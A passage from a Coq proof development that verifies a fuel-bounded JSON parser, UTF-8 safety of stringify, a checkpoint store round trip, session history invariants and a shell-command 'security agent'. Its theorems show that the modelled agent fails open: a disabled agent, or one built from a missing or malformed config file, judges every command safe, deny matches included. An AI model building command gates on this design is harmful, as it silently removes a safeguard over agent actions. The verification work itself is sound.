    destruct (c =? 116); [apply expect_modelled|].
    destruct (c =? 102); [apply expect_modelled|].
    destruct (c =? 110); [apply expect_modelled|].
    destruct (_ || _); [apply parse_number_modelled|done].
  - intros s Hfuel. cbn [parse_elements].
    specialize (IHv s).
    destruct (parse_value fuel s) as [[v s1]| |] eqn:Hv; cbn;
      [|done|intros _; apply IHv; [lia|done]].
    apply Lv in Hv.
    pose proof (skip_ws_length s1) as Hs1.
    destruct (skip_ws s1) as [|c s2]; [done|]. cbn [length] in Hs1.
    destruct (c =? 44).
    { specialize (IHe s2).
      destruct (parse_elements fuel s2) as [[vs' s3]| |]; cbn; [done..|].
      intros _. apply IHe; [lia|done]. }
    by destruct (c =? 93).
  - intros s Hfuel. cbn [parse_members].
    pose proof (skip_ws_length s) as Hs.
    destruct (skip_ws s) as [|q s1]; [done|]. cbn [length] in Hs.
    destruct (negb (q =? 34)); [done|].
    pose proof (parse_chars_modelled s1).
    destruct (parse_chars s1) as [[k s2]| |] eqn:Hk; cbn; [|done..].
    apply parse_chars_length in Hk.
    pose proof (skip_ws_length s2) as Hs2.
    destruct (skip_ws s2) as [|colon s3]; [done|]. cbn [length] in Hs2.
    destruct (negb (colon =? 58)); [done|].
    specialize (IHv s3).
    destruct (parse_value fuel s3) as [[v s4]| |] eqn:Hv; cbn;
      [|done|intros _; apply IHv; [lia|done]].
    apply Lv in Hv.
    pose proof (skip_ws_length s4) as Hs4.
    destruct (skip_ws s4) as [|c s5]; [done|]. cbn [length] in Hs4.
    destruct (c =? 44).
    { specialize (IHm s5).
      destruct (parse_members fuel s5) as [[ms' s6]| |]; cbn; [done..|].
      intros _. apply IHm; [lia|done]. }
    by destruct (c =? 125).
Qed.

(** [JSON.parse] answers every text: it is [Unmodelled] only on a JSON
    text, well formed to its end, that holds a number the model does not
    carry; on every text that is not a JSON text it throws. *)
Lemma JSON_parse_Unmodelled text :
  JSON_parse text = Unmodelled ->
  exists rest,
    parse_value (S (2 * length text)) text = Normal (None, rest)
    /\ skip_ws rest = [].
Proof.
  unfold JSON_parse.
  destruct (parse_fuel (S (2 * length text))) as (Hfuel & _ & _).
  specialize (Hfuel text ltac:(lia)).
  destruct (parse_value _ text) as [[[v|] rest]| |]; cbn; [| |done..].
  - by destruct (skip_ws rest).
  - destruct (skip_ws rest) eqn:Hrest; [|done]. eauto.
Qed.

(** Texts that are not JSON texts are rejected, however they fail: brackets
    left open, an exponent or a fraction with no digits, a leading zero, a
    syntax error after a number the model does not carry, a word cut short
    or run on, the empty text. *)
Lemma JSON_parse_rejects :
  Forall (fun text => JSON_parse (str text) = Throw SyntaxError)
    ["[[["; "[[[["; "[[[[[[[[[["; "{"; "1e"; "1e+"; "1."; "01"; "-";
     "[1.5,]"; "[-0,]"; "0.0.0"; "1e5x"; "tru"; "truex"; "[1 2]"; "";
     "{ENABLE_SECAGENT: true}"]%string.
Proof. repeat (constructor; [by vm_compute|]). constructor. Qed.

(** A JSON text with a fraction, an exponent, a negative zero or an integer
    that is not safe is the one kind of text left unanswered. *)
Lemma JSON_parse_unanswered :
  Forall (fun text => JSON_parse (str text) = Unmodelled)
    ["1.5"; "1e5"; "-0"; "[1.5]"; "12345678901234567890"]%string.
Proof. repeat (constructor; [by vm_compute|]). constructor. Qed.

End JsonParseFuel.

(** * Text that survives the UTF-8 encoding *)

Section Utf8.

Implicit Types (s rest gap indent a b : jsstring) (c d : code_unit) (v : json).

Lemma well_paired_nil : well_paired [].
Proof. by intros b. Qed.

Lemma well_paired_app a a' :
  well_paired a -> well_paired a' -> well_paired (a ++ a').
Proof. intros Ha Ha' b. by rewrite <- !app_assoc, Ha, Ha'. Qed.

Lemma well_paired_unit c :
  is_lead_surrogate c = false -> is_trail_surrogate c = false ->
  well_paired [c].
Proof. intros Hlead Htrail b. cbn. by rewrite Hlead, Htrail. Qed.

Lemma well_paired_pair c d :
  is_lead_surrogate c = true -> is_trail_surrogate d = true ->
  well_paired [c; d].
Proof. intros Hlead Htrail b. cbn. by rewrite Hlead, Htrail. Qed.

Lemma well_paired_cons c a :
  is_lead_surrogate c = false -> is_trail_surrogate c = false ->
  well_paired a -> well_paired (c :: a).
Proof.
  intros ???. by apply (well_paired_app [c]); [apply well_paired_unit|].
Qed.

Lemma not_surrogate c :
  c < 55296 -> is_lead_surrogate c = false /\ is_trail_surrogate c = false.
Proof.
  intros Hc. unfold is_lead_surrogate, is_trail_surrogate, in_range.
  split; apply andb_false_iff; left; apply N.leb_gt; lia.
Qed.

Lemma well_paired_below a :
  Forall (fun c => c < 55296) a -> well_paired a.
Proof.
  induction 1 as [|c a Hc _ IH]; [apply well_paired_nil|].
  destruct (not_surrogate c Hc). by apply well_paired_cons.
Qed.

Lemma well_paired_ws a : forallb is_json_ws a = true -> well_paired a.
Proof.
  intros Ha. apply well_paired_below, Forall_forall. intros c Hc.
  rewrite forallb_forall in Ha. apply list_elem_of_In, Ha in Hc.
  unfold is_json_ws in Hc.
  repeat (apply orb_true_iff in Hc as [Hc|Hc]);
    by apply N.eqb_eq in Hc as ->.
Qed.

Lemma hex_digit_below d : d < 16 -> hex_digit d < 55296.
Proof. intros Hd. unfold hex_digit. destruct (d <? 10); lia. Qed.

Lemma well_paired_unicode_escape c : well_paired (unicode_escape c).
Proof.
  apply well_paired_below. unfold unicode_escape.
  repeat (apply Forall_cons_2;
          [first [done|by apply hex_digit_below, N.mod_lt]|]).
  apply Forall_nil_2.
Qed.

Lemma well_paired_quote_unit c :
  is_lead_surrogate c = false -> well_paired (quote_unit c).
Proof.
  intros Hlead. unfold quote_unit.
  repeat (case_match; [by apply well_paired_below; repeat constructor|]).
  case_match; [apply well_paired_unicode_escape|].
  apply well_paired_unit; [done|].
  by repeat match goal with H : _ || _ = false |- _ =>
                              apply orb_false_iff in H as [??] end.
Qed.

Lemma well_paired_quote_chars s : well_paired (quote_chars s).
Proof.
  remember (length s) as n eqn:Hn.
  revert s Hn. induction (lt_wf n) as [n _ IH]. intros s ->.
  destruct s as [|c s1]; [apply well_paired_nil|].
  cbn [quote_chars].
  destruct (is_lead_surrogate c) eqn:Hlead.
  - destruct s1 as [|d s2]; [apply well_paired_unicode_escape|].
    destruct (is_trail_surrogate d) eqn:Htrail.
    + apply (well_paired_app [c; d]); [by apply well_paired_pair|].
      apply (IH (length s2)); [cbn; lia|done].
    + apply well_paired_app; [apply well_paired_unicode_escape|].
      apply (IH (length (d :: s2))); [cbn; lia|done].
  - apply well_paired_app; [by apply well_paired_quote_unit|].
    apply (IH (length s1)); [cbn; lia|done].
Qed.

Lemma well_paired_quote s : well_paired (quote s).
Proof.
  unfold quote.
  apply (well_paired_app [34]);
    [by apply well_paired_below; repeat constructor|].
  apply well_paired_app; [apply well_paired_quote_chars|].
  by apply well_paired_below; repeat constructor.
Qed.

Lemma well_paired_digits u : well_paired (digits u).
Proof.
  apply well_paired_below.
  induction u; cbn [digits]; constructor; done.
Qed.

Lemma well_paired_number n : well_paired (number_to_string n).
Proof.
  destruct n as [|p|p]; cbn [number_to_string].
  - by apply well_paired_below; repeat constructor.
  - apply well_paired_digits.
  - apply (well_paired_app [45]); [|apply well_paired_digits].
    by apply well_paired_below; repeat constructor.
Qed.

Lemma well_paired_join sep (parts : list jsstring) :
  well_paired sep -> Forall well_paired parts -> well_paired (join sep parts).
Proof.
  intros Hsep. induction 1 as [|p ps Hp Hps IH]; [apply well_paired_nil|].
  destruct ps as [|q ps]; [done|].
  change (join sep (p :: q :: ps)) with (p ++ sep ++ join sep (q :: ps)).
  by repeat apply well_paired_app.
Qed.

Lemma well_paired_wrap opening closing gap indent (parts : list jsstring) :
  opening < 55296 -> closing < 55296 ->
  well_paired gap -> well_paired indent -> Forall well_paired parts ->
  well_paired (wrap opening closing gap indent parts).
Proof.
  intros Ho Hc Hgap Hindent Hparts.
  assert (forall x, x < 55296 -> well_paired [x]) as Hunit.
  { intros x Hx. apply well_paired_below. by repeat constructor. }
  unfold wrap. destruct parts as [|p ps].
  { apply (well_paired_app [opening] [closing]); by apply Hunit. }
  destruct gap as [|g gap]; cbv zeta.
  - repeat apply well_paired_app; try by apply Hunit.
    apply well_paired_join; [by apply Hunit|done].
  - repeat apply well_paired_app; try done; try by apply Hunit.
    + apply (well_paired_app [opening] [10]); by apply Hunit.
    + apply well_paired_join; [|done].
      apply (well_paired_app [44; 10]); [|by apply well_paired_app].
      apply (well_paired_app [44] [10]); by apply Hunit.
Qed.

Lemma well_paired_serialize v :
  forall gap indent,
    well_paired gap -> well_paired indent ->
    well_paired (serialize gap indent v).
Proof.
  induction v as [|b|n|s|items IH|members IH] using json_ind;
    intros gap indent Hgap Hindent; cbn [serialize].
  - by apply well_paired_below; repeat constructor.
  - by destruct b; apply well_paired_below; repeat constructor.
  - apply well_paired_number.
  - apply well_paired_quote.
  - apply well_paired_wrap; try done.
    apply Forall_map. eapply Forall_impl; [exact IH|].
    intros m Hm. cbn. apply Hm; [done|]. by apply well_paired_app.
  - apply well_paired_wrap; try done.
    apply Forall_map. eapply Forall_impl; [exact IH|].
    intros [k m] Hm. cbn [snd] in Hm |- *.
    apply (well_paired_app (quote k)); [apply well_paired_quote|].
    apply well_paired_app.
    + by destruct gap; apply well_paired_below; repeat constructor.
    + apply Hm; [done|]. by apply well_paired_app.
Qed.

Lemma utf8_text_stringify v space :
  utf8_text (JSON_stringify v space) = JSON_stringify v space.
Proof.
  pose proof (well_paired_serialize v (repeat 32 (Nat.min 10 space)) []) as H.
  specialize (H (well_paired_ws _ (forallb_repeat is_json_ws 32 _ eq_refl))
                well_paired_nil []).
  unfold JSON_stringify. cbn [utf8_text] in H. by rewrite !app_nil_r in H.
Qed.

End Utf8.

(** * The checkpoint store *)

Section CheckpointStore.

Implicit Types (c : CommandInfo) (r : CommandResult) (i : ConnectionInfo)
  (checkpoint : SessionCheckpoint) (fs : gmap jsstring jsstring).

Lemma representable_result r :
  wf_result r -> representable (result_to_json r) = true.
Proof.
  intros Hr. apply representable_obj. split_and!.
  - repeat constructor. exact Hr.
  - by vm_compute.
  - apply (bool_decide_unpack _). by vm_compute.
Qed.

Lemma representable_command c :
  wf_command c -> representable (command_to_json c) = true.
Proof.
  destruct c as [cmd instant [r|]]; unfold wf_command; cbn [result];
    intros Hc; apply representable_obj; split_and!.
  - repeat constructor. by apply representable_result.
  - by vm_compute.
  - apply (bool_decide_unpack _). by vm_compute.
  - repeat constructor.
  - by vm_compute.
  - apply (bool_decide_unpack _). by vm_compute.
Qed.

Lemma representable_connection i :
  wf_connection i -> representable (connection_to_json i) = true.
Proof.
  intros Hi. apply representable_obj. split_and!.
  - repeat constructor. exact Hi.
  - by vm_compute.
  - apply (bool_decide_unpack _). by vm_compute.
Qed.

Lemma representable_checkpoint checkpoint :
  wf_checkpoint checkpoint ->
  representable (checkpoint_to_json checkpoint) = true.
Proof.
  destruct checkpoint as [[i|] cmds]; intros [Hi Hcmds]; cbn in Hi, Hcmds;
    apply representable_obj; split_and!.
  - repeat constructor; cbn [snd].
    + by apply representable_connection.
    + apply representable_arr, Forall_map.
      eapply Forall_impl; [exact Hcmds|]. apply representable_command.
  - by vm_compute.
  - apply (bool_decide_unpack _). by vm_compute.
  - repeat constructor; cbn [snd].
    apply representable_arr, Forall_map.
    eapply Forall_impl; [exact Hcmds|]. apply representable_command.
  - by vm_compute.
  - apply (bool_decide_unpack _). by vm_compute.
Qed.

Lemma result_to_json_inj r r' : result_to_json r = result_to_json r' -> r = r'.
Proof. destruct r, r'. unfold result_to_json. cbn. intros. by simplify_eq. Qed.

Lemma command_to_json_inj c c' :
  command_to_json c = command_to_json c' -> c = c'.
Proof.
  destruct c as [? ? [r|]], c' as [? ? [r'|]]; unfold command_to_json; cbn;
    intros H; simplify_eq; try done.
  do 2 f_equal. destruct r, r'. cbn in *. by subst.
Qed.

Lemma connection_to_json_inj i i' :
  connection_to_json i = connection_to_json i' -> i = i'.
Proof.
  destruct i, i'. unfold connection_to_json. cbn. intros. by simplify_eq.
Qed.

Lemma map_command_to_json_inj (l l' : list CommandInfo) :
  map command_to_json l = map command_to_json l' -> l = l'.
Proof.
  revert l'. induction l as [|c l IH]; intros [|c' l'] H; try done.
  pose proof (f_equal (hd JNull) H) as Hc.
  pose proof (f_equal (@tail _) H) as Hl. cbn [map hd tail] in Hc, Hl.
  f_equal; [by apply command_to_json_inj|by apply IH].
Qed.

Lemma checkpoint_to_json_inj checkpoint checkpoint' :
  checkpoint_to_json checkpoint = checkpoint_to_json checkpoint' ->
  checkpoint = checkpoint'.
Proof.
  destruct checkpoint as [[i|] cmds], checkpoint' as [[i'|] cmds'];
    unfold checkpoint_to_json; cbn [connectionInfo commands fmap option_fmap
      option_map optional_member app]; intros H; try done.
  - pose proof (f_equal (fun j => match j with
                                   | JObj ((_, a) :: _) => a
                                   | _ => JNull
                                   end) H) as Hi.
    pose proof (f_equal (fun j => match j with
                                   | JObj (_ :: (_, JArr b) :: _) => b
                                   | _ => []
                                   end) H) as Hl.
    cbv beta iota in Hi, Hl.
    f_equal; [f_equal; by apply connection_to_json_inj
             |by apply map_command_to_json_inj].
  - pose proof (f_equal (fun j => match j with
                                   | JObj ((_, JArr b) :: _) => b
                                   | _ => []
                                   end) H) as Hl.
    cbv beta iota in Hl.
    f_equal. by apply map_command_to_json_inj.
Qed.

Lemma load_after_save filePath checkpoint fs :
  representable (checkpoint_to_json checkpoint) = true ->
  loadCheckpoint filePath (saveCheckpoint filePath checkpoint true fs).2
  = Normal (checkpoint_to_json checkpoint).
Proof.
  intros Hrep. unfold loadCheckpoint, saveCheckpoint, writeFile, readFileSync.
  cbn [snd]. rewrite lookup_insert_eq, utf8_text_stringify.
  cbn [mbind completion_bind bind]. by rewrite JSON_parse_stringify.
Qed.

(** C7.  For a well-formed checkpoint (its port and exit codes are integers
    a double holds exactly) a save that the file system carries out
    completes normally, and loading the saved file yields the JSON value of
    the checkpoint itself: the same members with the same values, an absent
    [connectionInfo] or [result] staying absent and an empty command list
    staying empty.  That value determines the checkpoint. *)
Theorem checkpoint_round_trip filePath checkpoint fs :
  wf_checkpoint checkpoint ->
  (saveCheckpoint filePath checkpoint true fs).1 = Normal ()
  /\ loadCheckpoint filePath (saveCheckpoint filePath checkpoint true fs).2
     = Normal (checkpoint_to_json checkpoint)
  /\ (forall checkpoint',
        checkpoint_to_json checkpoint' = checkpoint_to_json checkpoint ->
        checkpoint' = checkpoint).
Proof.
  intros Hwf. split_and!.
  - done.
  - by apply load_after_save, representable_checkpoint.
  - intros checkpoint'. apply checkpoint_to_json_inj.
Qed.

End CheckpointStore.

(** * Properties of the session state *)

Section SessionState.

Implicit Types (this : sessionManager) (cmd : jsstring)
  (r : option CommandResult) (c : CommandInfo) (i j : nat).

Lemma findIndex_Some {A} (P : A -> Prop) `{forall x, Decision (P x)}
    (l : list A) i :
  findIndex P l = Some i <->
  exists x, l !! i = Some x /\ P x /\
            forall j y, l !! j = Some y -> (j < i)%nat -> ~ P y.
Proof.
  unfold findIndex. split.
  - destruct (list_find P l) as [[i' x]|] eqn:Hfind; [|done].
    intros [= <-]. apply list_find_Some in Hfind. eauto.
  - intros (x & Hx & HP & Hleast).
    assert (list_find P l = Some (i, x)) as ->; [|done].
    apply list_find_Some. eauto.
Qed.

Lemma findIndex_None {A} (P : A -> Prop) `{forall x, Decision (P x)}
    (l : list A) :
  findIndex P l = None <-> Forall (fun x => ~ P x) l.
Proof.
  unfold findIndex. split.
  - intros Hnone. apply (list_find_None P l).
    by destruct (list_find P l).
  - intros Hall. apply (list_find_None P l) in Hall. by rewrite Hall.
Qed.

Lemma setCommandResult_commands_lookup this cmd r j :
  this_commands (setCommandResult cmd r this) !! j
  = if decide (findIndex (fun c => command c = cmd) (this_commands this)
               = Some j)
    then set_result r <$> this_commands this !! j
    else this_commands this !! j.
Proof.
  unfold setCommandResult.
  destruct (findIndex _ _) as [k|] eqn:Hfind; cbn.
  - case_decide as Hk.
    + injection Hk as ->. apply list_lookup_alter_eq.
    + apply list_lookup_alter_ne. congruence.
  - by case_decide.
Qed.

(** The search of [setCommandResult] stops at the first record that carries
    the command text. *)
Lemma findIndex_first this cmd i c :
  this_commands this !! i = Some c ->
  command c = cmd ->
  (forall j c', (j < i)%nat -> this_commands this !! j = Some c' ->
                command c' <> cmd) ->
  findIndex (fun c => command c = cmd) (this_commands this) = Some i.
Proof.
  intros Hi Hc Hfirst. apply findIndex_Some. exists c.
  split_and!; [done..|]. intros j y Hj Hlt. by apply (Hfirst j).
Qed.

(** C2, as amended.  The result is attached to the first record, in
    history order, whose command text equals the given command: the
    earliest-appended one when several records carry that text.  Every
    other record is left as it was; in particular the later records that
    carry the same text are left unchanged. *)
Theorem result_attached_to_first_match this cmd r i c :
  this_commands this !! i = Some c ->
  command c = cmd ->
  (forall j c', (j < i)%nat -> this_commands this !! j = Some c' ->
                command c' <> cmd) ->
  this_commands (setCommandResult cmd r this) !! i = Some (set_result r c)
  /\ (forall j c', (i < j)%nat -> this_commands this !! j = Some c' ->
                   command c' = cmd ->
                   this_commands (setCommandResult cmd r this) !! j = Some c')
  /\ (forall j, j <> i ->
                this_commands (setCommandResult cmd r this) !! j
                = this_commands this !! j)
  /\ length (this_commands (setCommandResult cmd r this))
     = length (this_commands this).
Proof.
  intros Hi Hc Hfirst.
  pose proof (findIndex_first this cmd i c Hi Hc Hfirst) as Hfind.
  assert (forall j, j <> i ->
            this_commands (setCommandResult cmd r this) !! j
            = this_commands this !! j) as Hother.
  { intros j Hj. rewrite setCommandResult_commands_lookup.
    rewrite decide_False; [done|]. rewrite Hfind. by intros [= ->]. }
  split_and!.
  - rewrite setCommandResult_commands_lookup.
    rewrite decide_True by done. by rewrite Hi.
  - intros j c' Hlt Hj _. rewrite Hother by lia. done.
  - done.
  - unfold setCommandResult. rewrite Hfind. cbn. apply length_alter.
Qed.

(** C10. [setCommandResult] keeps the connection metadata and the length of
    the history, changes no record other than the one its search finds, and
    changes nothing at all when no record carries the command text. *)
Theorem setCommandResult_frame this cmd r :
  this_connectionInfo (setCommandResult cmd r this) = this_connectionInfo this
  /\ length (this_commands (setCommandResult cmd r this))
     = length (this_commands this)
  /\ (forall j,
        findIndex (fun c => command c = cmd) (this_commands this) <> Some j ->
        this_commands (setCommandResult cmd r this) !! j
        = this_commands this !! j)
  /\ ((forall c, c ∈ this_commands this -> command c <> cmd) ->
      setCommandResult cmd r this = this).
Proof.
  split_and!.
  - unfold setCommandResult. by destruct (findIndex _ _).
  - unfold setCommandResult. destruct (findIndex _ _); cbn; [|done].
    apply length_alter.
  - intros j Hj. rewrite setCommandResult_commands_lookup.
    by rewrite decide_False.
  - intros Hnone. unfold setCommandResult.
    assert (findIndex (fun c => command c = cmd) (this_commands this) = None)
      as ->; [|done].
    apply findIndex_None, Forall_forall. intros c Hc. by apply Hnone.
Qed.

Lemma apply_lookup op this i c :
  this_commands this !! i = Some c ->
  exists c', this_commands (apply op this) !! i = Some c'
    /\ command c' = command c /\ executedAt c' = executedAt c
    /\ (((forall r, op <> SetCommandResult (command c) r)
         \/ exists j c0, (j < i)%nat /\ this_commands this !! j = Some c0
                         /\ command c0 = command c)
        -> c' = c).
Proof.
  intros Hi. destruct op as [cmd now|cmd r|info]; cbn.
  - exists c. split_and!; [|done..]. by apply lookup_app_l_Some.
  - rewrite setCommandResult_commands_lookup. case_decide as Hfind.
    + rewrite Hi. cbn. eexists. split_and!; [done..|].
      apply findIndex_Some in Hfind as (x & Hx & Hcmd & Hleast).
      assert (x = c) as -> by congruence.
      intros [Hop|(j & c0 & Hlt & Hj & Hsame)].
      * by destruct (Hop r); rewrite Hcmd.
      * destruct (Hleast j c0 Hj Hlt). congruence.
    + exists c. by split_and!.
  - exists c. by split_and!.
Qed.

(** Under any sequence of operations a record keeps its place and its
    command text. *)
Lemma run_lookup ops this i c :
  this_commands this !! i = Some c ->
  exists c', this_commands (run ops this) !! i = Some c'
             /\ command c' = command c.
Proof.
  revert this c. induction ops as [|op ops IH]; intros this c Hi; cbn.
  - by exists c.
  - destruct (apply_lookup op this i c Hi) as (c1 & H1 & Hcmd1 & _).
    destruct (IH (apply op this) c1 H1) as (c' & H' & Hcmd').
    exists c'. split; [done|congruence].
Qed.

(** C3, as amended.  Under any sequence of [addCommand],
    [setCommandResult] and [setConnectionInfo], a record that has a result
    keeps its place in the history and its [command] and [executedAt]
    fields; it is left wholly unchanged when no [setCommandResult] of the
    sequence names its command text, and also when an earlier record carries
    the same text.  When it is the first record with its text, a
    [setCommandResult] that names the text, made after the sequence,
    overwrites its result with the one given. *)
Theorem completed_record_stability ops this i c :
  this_commands this !! i = Some c ->
  is_Some (result c) ->
  exists c', this_commands (run ops this) !! i = Some c'
    /\ command c' = command c /\ executedAt c' = executedAt c
    /\ ((Forall (fun op => forall r, op <> SetCommandResult (command c) r) ops
         \/ exists j c0, (j < i)%nat /\ this_commands this !! j = Some c0
                         /\ command c0 = command c)
        -> c' = c)
    /\ ((forall j c0, (j < i)%nat -> this_commands this !! j = Some c0 ->
                      command c0 <> command c) ->
        forall r,
          this_commands (setCommandResult (command c) r (run ops this)) !! i
          = Some {| command := command c; executedAt := executedAt c;
                    result := r |}).
Proof.
  intros Hi _.
  assert (exists c', this_commands (run ops this) !! i = Some c'
    /\ command c' = command c /\ executedAt c' = executedAt c
    /\ ((Forall (fun op => forall r, op <> SetCommandResult (command c) r) ops
         \/ exists j c0, (j < i)%nat /\ this_commands this !! j = Some c0
                         /\ command c0 = command c)
        -> c' = c)) as (c' & H' & Hcmd' & Hat' & Hsame').
  { clear -Hi. revert this c Hi.
    induction ops as [|op ops IH]; intros this c Hi; cbn.
    - exists c. by split_and!.
    - destruct (apply_lookup op this i c Hi)
        as (c1 & H1 & Hcmd1 & Hat1 & Hsame1).
      destruct (IH (apply op this) c1 H1) as (c' & H' & Hcmd' & Hat' & Hsame').
      exists c'. split_and!; [done|congruence..|].
      intros Hcond.
      assert (c1 = c) as ->.
      { apply Hsame1. destruct Hcond as [Hops|?]; [|by right].
        left. by apply Forall_cons in Hops as [? _]. }
      apply Hsame'. destruct Hcond as [Hops|(j & c0 & Hlt & Hj & Hc0)].
      + left. by apply Forall_cons in Hops as [_ ?].
      + right. destruct (apply_lookup op this j c0 Hj) as (c0' & ? & ? & _).
        exists j, c0'. split_and!; [done..|congruence]. }
  exists c'. split_and!; [done..|].
  intros Hfirst r. rewrite setCommandResult_commands_lookup.
  rewrite decide_True.
  - rewrite H'. cbn. unfold set_result. by rewrite Hcmd', Hat'.
  - apply (findIndex_first _ _ _ c'); [done..|].
    intros j y Hlt Hy.
    assert (is_Some (this_commands this !! j)) as [c0 Hj].
    { apply lookup_lt_is_Some. apply lookup_lt_Some in Hi. lia. }
    destruct (run_lookup ops this j c0 Hj) as (c0' & Hj' & Hcmd0).
    assert (y = c0') as -> by congruence.
    rewrite Hcmd0. by apply (Hfirst j).
Qed.

(** C8, as amended.  [restoreFromCheckpoint] always replaces the command
    list by the checkpoint's; it replaces the connection metadata when the
    checkpoint has some and keeps the prior metadata otherwise; applied to a
    newly constructed manager it yields exactly the checkpoint. *)
Theorem restore_from_checkpoint this checkpoint :
  this_commands (restoreFromCheckpoint checkpoint this) = commands checkpoint
  /\ this_connectionInfo (restoreFromCheckpoint checkpoint this)
     = match connectionInfo checkpoint with
       | Some info => Some info
       | None => this_connectionInfo this
       end
  /\ getCheckpoint (restoreFromCheckpoint checkpoint Session.constructor)
     = checkpoint.
Proof.
  unfold restoreFromCheckpoint, getCheckpoint.
  destruct checkpoint as [[info|] cmds]; by cbn.
Qed.

End SessionState.

#[local] Arguments isObviouslyUnsafe : simpl never.
#[local] Arguments isStaticallySafe : simpl never.
#[local] Arguments retry_loop : simpl never.
#[local] Arguments str : simpl never.
#[local] Arguments get : simpl never.

(** * The security agent *)

Section Agent.

Variable toUpperCase : jsstring -> jsstring.
Variable race : nat -> jsstring -> option json -> jsstring -> race_outcome.

Lemma existsb_test_intro (patterns : list regex) pattern command :
  pattern ∈ patterns -> test pattern command = true ->
  existsb (fun p => test p command) patterns = true.
Proof.
  intros Hin Ht. apply existsb_exists. exists pattern.
  split; [by apply list_elem_of_In | done].
Qed.

Lemma existsb_test_elim (patterns : list regex) command :
  existsb (fun p => test p command) patterns = true ->
  exists pattern, pattern ∈ patterns /\ test pattern command = true.
Proof.
  intros (p & Hin & Ht)%existsb_exists. exists p.
  split; [by apply list_elem_of_In | done].
Qed.

(** A disabled agent answers before any check. *)
Lemma check_disabled this command flag :
  get (secagentconfig this) (str "ENABLE_SECAGENT") = Normal flag ->
  is_true flag = false ->
  checkCommandSafety toUpperCase race this command = ([], Normal true).
Proof.
  intros Hget Hflag. unfold checkCommandSafety.
  rewrite Hget. cbn. by rewrite Hflag.
Qed.

(** With the agent enabled the deny check runs first and decides alone when
    it matches. *)
Lemma check_enabled_deny this command :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  isObviouslyUnsafe command = true ->
  checkCommandSafety toUpperCase race this command
  = ([DenyCheck command], Normal false).
Proof.
  intros Hget Hdeny. unfold checkCommandSafety.
  rewrite Hget. cbn. by rewrite Hdeny.
Qed.

(** A configuration that answers one property read answers them all: it
    is not [null]. *)
Lemma get_total config key v key' :
  get config key = Normal v -> exists v', get config key' = Normal v'.
Proof. destruct config; unfold get; intros; simplify_eq; eauto. Qed.

Lemma check_static_only this command :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  get (secagentconfig this) (str "USE_STATIC_CHECKS_ONLY")
    = Normal (Some (JBool true)) ->
  (checkCommandSafety toUpperCase race this command).2
    = Normal (negb (isObviouslyUnsafe command) && isStaticallySafe command).
Proof.
  intros Hen Hst. unfold checkCommandSafety.
  rewrite Hen. cbn. destruct (isObviouslyUnsafe command); [done|].
  rewrite Hst. by cbn.
Qed.

Lemma retry_loop_completes_any race' this command policy :
  get (secagentconfig this) (str "SECURITY_POLICY") = Normal policy ->
  exists b, (retry_loop toUpperCase race' this command).2 = Normal b.
Proof.
  intros Hpolicy. unfold retry_loop, MAX_RETRIES, attempt_body.
  rewrite Hpolicy. cbn.
  destruct (prompt_holds policy); cbn; [|by eauto].
  destruct (race' 1%nat _ _ _) as [[r1|]|]; cbn; eauto;
    destruct (race' 2%nat _ _ _) as [[r2|]|]; cbn; eauto;
    destruct (race' 3%nat _ _ _) as [[r3|]|]; cbn; eauto.
Qed.


(** C1.  With the agent enabled, a command that matches one of the deny
    patterns is judged unsafe whatever the other fields of the
    configuration, the models on offer and the behaviour of the classifier:
    the deny check is reached and decides before any other flag is read. *)
Theorem deny_pattern_always_unsafe this command pattern :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  In pattern unsafe_patterns ->
  test pattern command = true ->
  (checkCommandSafety toUpperCase race this command).2 = Normal false.
Proof.
  intros Hen Hin Ht.
  rewrite (check_enabled_deny this command Hen); [done|].
  apply (existsb_test_intro _ pattern); [by apply list_elem_of_In | done].
Qed.

(** C4, as amended.  With the agent enabled and static checks only, a
    command is judged safe exactly when it matches an allow pattern and no
    deny pattern; [ls -la] is judged safe and [find / -name x] unsafe. *)
Theorem static_only_verdict this command :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  get (secagentconfig this) (str "USE_STATIC_CHECKS_ONLY")
    = Normal (Some (JBool true)) ->
  ((checkCommandSafety toUpperCase race this command).2 = Normal true <->
   (exists pattern, In pattern safe_commands /\ test pattern command = true)
   /\ (forall pattern, In pattern unsafe_patterns ->
         test pattern command = false))
  /\ (checkCommandSafety toUpperCase race this (str "ls -la")).2 = Normal true
  /\ (checkCommandSafety toUpperCase race this (str "find / -name x")).2
     = Normal false.
Proof.
  intros Hen Hst. split; [|split].
  - rewrite (check_static_only this command Hen Hst). split.
    + intros [= [Hdeny Hallow]%andb_true_iff]. split.
      * apply existsb_exists in Hallow as (p & ? & ?). eauto.
      * intros p Hin. destruct (test p command) eqn:Ht; [|done].
        apply negb_true_iff in Hdeny.
        assert (isObviouslyUnsafe command = true); [|congruence].
        apply existsb_exists. eauto.
    + intros [(p & Hin & Ht) Hdeny]. f_equal. apply andb_true_iff. split.
      * apply negb_true_iff, not_true_is_false.
        intros (q & Hq & Hqt)%existsb_exists.
        rewrite (Hdeny q Hq) in Hqt. discriminate.
      * apply existsb_exists. eauto.
  - rewrite (check_static_only this _ Hen Hst). by vm_compute.
  - rewrite (check_static_only this _ Hen Hst). by vm_compute.
Qed.

(** C5. With [ENABLE_SECAGENT] false every command is judged safe, a deny
    match included, and the trace is empty: neither pattern table is
    consulted and no classifier request is made. *)
Theorem disabled_agent_is_safe this command :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool false)) ->
  checkCommandSafety toUpperCase race this command = ([], Normal true).
Proof. intros Hget. by apply (check_disabled this command _ Hget). Qed.


End Agent.

(** * Construction of the agent *)

Lemma constructor_fallback configfilepath ollamaHost fs new_Ollama :
  fs !! configfilepath = None
  \/ (exists text error, fs !! configfilepath = Some text
                         /\ JSON_parse text = Throw error) ->
  SecAgent.constructor configfilepath ollamaHost fs new_Ollama
  = Normal {| secagentconfig := default_config; availableModels := [] |}.
Proof.
  unfold SecAgent.constructor, readFileSync.
  intros [->|(text & error & -> & Hparse)]; [done|].
  cbn [mbind completion_bind bind]. by rewrite Hparse.
Qed.

(** C9, as amended.  When the configuration file is absent, or its text is
    one [JSON.parse] rejects, construction completes with the configuration
    [{ENABLE_SECAGENT: false, SECURITY_POLICY: "Only 'ls' command is safe"}];
    the agent is then disabled, and every later evaluation answers safe
    without a check.  [JSON_parse] throws on every text that is not a JSON
